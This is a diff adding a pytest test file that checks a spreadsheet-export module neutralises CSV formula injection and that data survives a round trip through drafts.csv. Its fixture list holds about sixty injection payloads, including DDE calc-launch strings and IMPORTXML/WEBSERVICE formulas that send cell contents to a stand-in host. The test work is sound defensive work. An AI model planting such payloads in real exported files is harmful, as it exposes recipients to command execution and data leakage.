@@ -1,0 +1,114 @@
+"""What a run writes: no cell that a spreadsheet would run, and nothing lost on the way back."""
+
+from __future__ import annotations
+
+import csv
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from batches import SENDER, table
+
+from drafter.batch import Leads, read_leads
+from drafter.batch.table import tables
+from drafter.export import cell
+from drafter.intake.sheets import clean, header_key
+
+DANGEROUS = (
+    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"Click\")", "=A1", "==1", "=",
+    "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")",
+    "=WEBSERVICE(\"http://x.example/\"&A1)", "=SUM(1,2)*cmd|'/C calc'!A0", "=\t1", "=\"a\"&\"b\"",
+    "+1+1", "+cmd|'/C calc'!A0", "+A1", "+", "++1", "+SUM(A1:A9)", "+1-800-555-0199",
+    "-1+1", "-cmd|'/C calc'!A0", "-A1", "--", "-2+3+cmd|'/C calc'!D2", "- a list", "-1-1",
+    "@SUM(1+1)*cmd|'/C calc'!A0", "@ann", "@", "@SUM(A1)", "@\t=1",
+    "\t=1+1", "\t", "\t@SUM(A1)", "\ttext", "\r=1+1", "\r\n=1+1", "\n=1+1", "\n+1+1", "\x0b=1+1",
+    "\0=1+1", "=\x001+1", "\0", "\x1b]0;x\x07=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1",
+    " =1+1", "   +A1", " \t =1+1", "\u00a0=1+1", "\u3000=1+1", " @SUM(A1)",
+    "＝1+1", "＋A1", "－A1", "＠SUM(A1)", " ＝1+1",
+    "'=1+1", "\"=1+1\"", "'+A1", "\";=1+1;\"", "\"\n=1+1\"",
+)  # fmt: skip
+HARMLESS = (
+    "-5", "-1,234.50", "-12.5%", "+1E5", "+49 170 1234567", "+49 (0)170 1234567",
+    "+1 (800) 5550199", "0170 1234567", "1E5", "3/4", "a=b", "x+y", "007", "O'Neill", "'tis", "", "Zoë – “x”", "a;b|c",
+    "1-800-Flowers",
+)  # fmt: skip
+RUNS = re.compile(r"[\s\0]*[=+\-@＝＋－＠]|[\t\r\0]")
+AMOUNT = re.compile(r"[+-][\d .,()]+%?|[+-]\d+E\d+")
+
+
+def test_there_are_sixty() -> None:
+    assert len(set(DANGEROUS)) >= 60
+
+
+@pytest.mark.parametrize("text", DANGEROUS, ids=range(len(DANGEROUS)))
+def test_no_cell_begins_a_formula(text: str) -> None:
+    made = cell(text)
+    assert not RUNS.match(made), made
+    assert "\0" not in made and "\r" not in made
+    assert clean(made) == clean(text)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_amounts_and_telephone_numbers_stay(text: str) -> None:
+    assert cell(text) == text and clean(text) == text
+    assert not RUNS.match(text) or AMOUNT.fullmatch(text)
+
+
+def written(folder: Path) -> tuple[Leads, Path]:
+    """Every dangerous cell in three columns of leads, through drafts.csv."""
+    source = folder / "leads.csv"
+    cells = [*DANGEROUS, *HARMLESS]
+    with source.open("w", encoding="utf-16", newline="") as lines:  # Where a NUL is a letter.
+        rows = csv.writer(lines)
+        rows.writerow(["recipient_name", "situation", "=Tag", "status", "fact_1"])
+        rows.writerows(["Ola", text, text, text, text] for text in cells)
+    leads = read_leads(source)
+    drafts = {"status": "drafted", "verdict": "ok", "withheld": "", "subject": "=1+1",
+              "body": "-A1", "channel": "sms", "kind": "@x"}  # fmt: skip
+    with tables(folder / "out", leads.columns, SENDER) as put:
+        for number, row in leads.rows():
+            put({"lead_id": f"row-{number}", "given": leads.given(row), **drafts})
+    return leads, folder / "out" / "drafts.csv"
+
+
+def test_what_is_read_back_is_what_went_in(tmp_path: Path) -> None:
+    leads, made = written(tmp_path)
+    again = read_leads(made)
+    first = [leads.told(row) for _, row in leads.rows()]
+    second = [again.told(row) for _, row in again.rows()]
+    ours = first[0].keys()
+    assert [{name: row[name] for name in ours} for row in second] == first
+    theirs = [clean(again.given(row)["given_status"]) for _, row in again.rows()]
+    assert theirs == [clean(leads.given(row)["status"]) for _, row in leads.rows()]
+    assert [clean(again.given(row)["subject"]) for _, row in again.rows()] == ["=1+1"] * len(theirs)
+
+
+def test_no_cell_of_the_file_begins_a_formula(tmp_path: Path) -> None:
+    _, made = written(tmp_path)
+    with made.open(encoding="utf-8", newline="") as lines:
+        cells = [cell for row in csv.reader(lines) for cell in row]
+    assert len(cells) > 1000
+    assert not [text for text in cells if RUNS.match(text) and not AMOUNT.fullmatch(text)]
+
+
+def test_columns_of_the_file_never_give_way_to_ours(tmp_path: Path) -> None:
+    columns = ["Status", "status", "given_status", "kind", "Kind", "lead id", "Body"]
+    given = {name: f"their {name}" for name in columns}
+    with tables(tmp_path / "out", columns, SENDER) as put:
+        put({"lead_id": "row-1", "given": given, "status": "skipped", "reason": "x", "kind": ""})
+    (row,) = table(tmp_path / "out" / "drafts.csv")
+    assert {f"their {name}" for name in columns} <= set(row.values())
+    assert (row["status"], row["kind"], row["lead_id"]) == ("skipped", "their kind", "row-1")
+    assert len(row) == len({header_key(name) for name in row})
+
+
+@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice (soffice)")
+def test_libreoffice_opens_it_without_a_formula(tmp_path: Path) -> None:
+    _, made = written(tmp_path)
+    command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/office",
+               "--convert-to", "fods", "--outdir", str(tmp_path), str(made)]  # fmt: skip
+    subprocess.run(command, check=True, capture_output=True, timeout=120)
+    sheet = (tmp_path / "drafts.fods").read_text(encoding="utf-8")
+    assert "table:table-cell" in sheet and "table:formula" not in sheet
